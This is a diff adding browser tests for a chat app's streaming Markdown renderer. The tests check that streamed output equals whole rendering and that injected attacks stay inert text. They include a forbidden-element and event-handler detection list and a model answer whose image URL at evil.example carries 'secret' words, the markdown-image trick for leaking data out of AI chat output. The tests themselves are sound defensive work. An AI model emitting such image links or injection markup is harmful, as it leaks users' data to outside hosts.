@@ -1,0 +1,173 @@
+//! What is drawn: streamed equals whole, nothing dangerous at any moment, nothing lost, nothing replaced.
+
+import assert from 'node:assert/strict';
+import { ATTACKS } from '../support/attacks.mjs';
+import { answerState, answerText, browserTest, send, signal, useBrowser, until } from '../support/browser.mjs';
+import { CORPUS, longAnswer, randomDocuments } from '../support/markdown.mjs';
+
+useBrowser();
+
+/** Runs in the page: streams each document and compares with marked's rendering of the whole. */
+async function differences(documents) {
+  const { StreamRenderer } = await import('/js/md/stream.js');
+  const { renderMarkdown } = await import('/js/md/render.js');
+  const wrong = [];
+  for (const { text, size } of documents) {
+    const streamed = document.createElement('div');
+    const renderer = new StreamRenderer(streamed);
+    for (let at = 0; at < text.length; at += size) {
+      renderer.push(text.slice(at, at + size));
+      renderer.flush();
+    }
+    renderer.finish();
+    const whole = document.createElement('div');
+    whole.append(renderMarkdown(text.replace(/\r\n?/g, '\n')));
+    if (streamed.innerHTML !== whole.innerHTML) wrong.push({ text, size, streamed: streamed.innerHTML, whole: whole.innerHTML });
+  }
+  return wrong.slice(0, 3);
+}
+
+browserTest('what was streamed equals the whole: the corpus, in pieces of 1, 3 and 7', async ({ page }) => {
+  const documents = Object.values(CORPUS).flatMap((text) => [1, 3, 7].map((size) => ({ text, size })));
+  assert.deepEqual(await page.evaluate(differences, documents), []);
+});
+
+browserTest('what was streamed equals the whole: 2,000 random documents', async ({ page }) => {
+  const documents = Array.from(randomDocuments(2_000, 7));
+  assert.deepEqual(await page.evaluate(differences, documents), []);
+});
+
+browserTest('what was streamed equals the whole: a long answer', async ({ page }) => {
+  assert.deepEqual(await page.evaluate(differences, [{ text: longAnswer(3_000), size: 5 }]), []);
+});
+
+/** Runs in the page: looks at every moment of every attack, and at the end. */
+async function dangers(attacks) {
+  const { StreamRenderer } = await import('/js/md/stream.js');
+  const events = [];
+  document.addEventListener('securitypolicyviolation', (event) => events.push(event.violatedDirective));
+  const forbidden =
+    'script,img,svg,math,iframe,object,embed,form,input,button:not([data-action="copy-code"] ),style,link,base,meta,details,[id],[name],[style],[srcdoc],[formaction]';
+  const found = [];
+  const look = (root, text) => {
+    for (const node of root.querySelectorAll(forbidden)) {
+      if (!node.closest('.code-head')) found.push(`${text}: ${node.outerHTML}`);
+    }
+    for (const node of root.querySelectorAll('*')) {
+      for (const { name } of node.attributes) if (name.startsWith('on')) found.push(`${text}: ${node.outerHTML}`);
+      if (node.href !== undefined && !/^(https?:|mailto:)/.test(node.getAttribute('href') ?? 'https:') && !node.closest('svg')) {
+        found.push(`${text}: ${node.outerHTML}`);
+      }
+    }
+  };
+  for (const text of attacks) {
+    for (const around of [text, `before\n\n${text}\n\nafter`, `- ${text}`, `> ${text}`, `**${text}`]) {
+      const root = document.body.appendChild(document.createElement('div'));
+      const renderer = new StreamRenderer(root);
+      for (const sign of around) {
+        renderer.push(sign);
+        renderer.flush();
+        look(root, around);
+      }
+      renderer.finish();
+      look(root, around);
+      for (const link of root.querySelectorAll('a')) if (link.rel !== 'noopener noreferrer nofollow') found.push(link.outerHTML);
+      root.remove();
+    }
+  }
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  return { found: found.slice(0, 5), events, hacked: window.hacked };
+}
+
+browserTest('no attack is anything but text, in the open tail and settled; no policy violation', async ({ page }) => {
+  assert.deepEqual(await page.evaluate(dangers, ATTACKS), { found: [], events: [], hacked: undefined });
+});
+
+browserTest('attacks in a real answer cause no request and no dialog', async ({ page, fake }) => {
+  let dialogs = 0;
+  page.on('dialog', (dialog) => (dialogs++, dialog.dismiss()));
+  fake.onChat = async (stream) => {
+    for (const text of ATTACKS) await stream.say(text, '\n\n');
+    await stream.done();
+  };
+  const before = new Set(fake.requests.map(({ path }) => path));
+  await send(page, ATTACKS.join('\n'));
+  await answerState(page, 'done');
+  await page.waitForTimeout(300);
+  const known = /^\/(api|js|vendor|css|i18n)\//;
+  assert.deepEqual(fake.requests.filter(({ path }) => !before.has(path) && !known.test(path)), []);
+  assert.equal(dialogs, 0);
+  assert.equal(await page.evaluate(() => window.hacked), undefined);
+});
+
+browserTest('a model\'s image is a link with its words, and is never loaded', async ({ page, fake }) => {
+  fake.onChat = async (stream) => {
+    await stream.say('Look: ![a cat](https://evil.example/cat.png?words=secret) fine');
+    await stream.done();
+  };
+  await send(page, 'q');
+  await answerState(page, 'done');
+  const link = page.locator('.assistant .text a');
+  assert.deepEqual([await link.innerText(), await link.getAttribute('href')], ['a cat', 'https://evil.example/cat.png?words=secret']);
+  assert.equal(await page.locator('.assistant .text img').count(), 0);
+});
+
+browserTest('settled text keeps its nodes and its selection while the answer grows, and no word goes away', async ({ page, fake }) => {
+  const go = signal();
+  fake.onChat = async (stream) => {
+    await stream.say('Settled words here.\n\nNext ');
+    await go;
+    for (const piece of longAnswer(1_500).match(/.{1,12}/gs)) await stream.say(piece);
+    await stream.done();
+  };
+  await send(page, 'q');
+  await until(async () => /Next/.test(await answerText(page)));
+  await page.evaluate(() => {
+    const first = document.querySelector('.assistant .text > p');
+    window.kept = first;
+    getSelection().selectAllChildren(first);
+    window.lost = [];
+    let most = 0;
+    const watch = () => {
+      // Signs of Markdown come and go as they are understood; words only come.
+      const letters = document.querySelector('.assistant .text').textContent.replace(/[^a-z]/gi, '').length;
+      if (letters < most - 12) window.lost.push([most, letters]);
+      most = Math.max(most, letters);
+      window.watching = requestAnimationFrame(watch);
+    };
+    watch();
+  });
+  go.fire();
+  await answerState(page, 'done');
+  const after = await page.evaluate(() => ({
+    same: document.querySelector('.assistant .text > p') === window.kept,
+    selection: getSelection().toString().trim(),
+    lost: window.lost,
+  }));
+  assert.deepEqual(after, { same: true, selection: 'Settled words here.', lost: [] });
+});
+
+browserTest('code is coloured when its fence closes, and is copied exactly', async ({ page, fake, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const code = 'fn main() {\n\tlet x = "<b>&amp;";\n\n    // end  \n}';
+  fake.onChat = async (stream) => {
+    await stream.say('Code:\n```rust\n', code, '\n```\nDone.');
+    await stream.done();
+  };
+  await send(page, 'q');
+  await answerState(page, 'done');
+  await page.waitForSelector('.code .hljs-keyword');
+  await page.click('[data-action="copy-code"]');
+  await until(async () => (await page.locator('#status').innerText()) === 'Copied');
+  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), code);
+});
+
+browserTest('a reference link at the end is resolved in the words before it', async ({ page, fake }) => {
+  fake.onChat = async (stream) => {
+    await stream.say('See [the docs][d].\n\nMore.\n\n', '[d]: https://example.org/d\n');
+    await stream.done();
+  };
+  await send(page, 'q');
+  await answerState(page, 'done');
+  assert.equal(await page.locator('.assistant .text a').getAttribute('href'), 'https://example.org/d');
+});
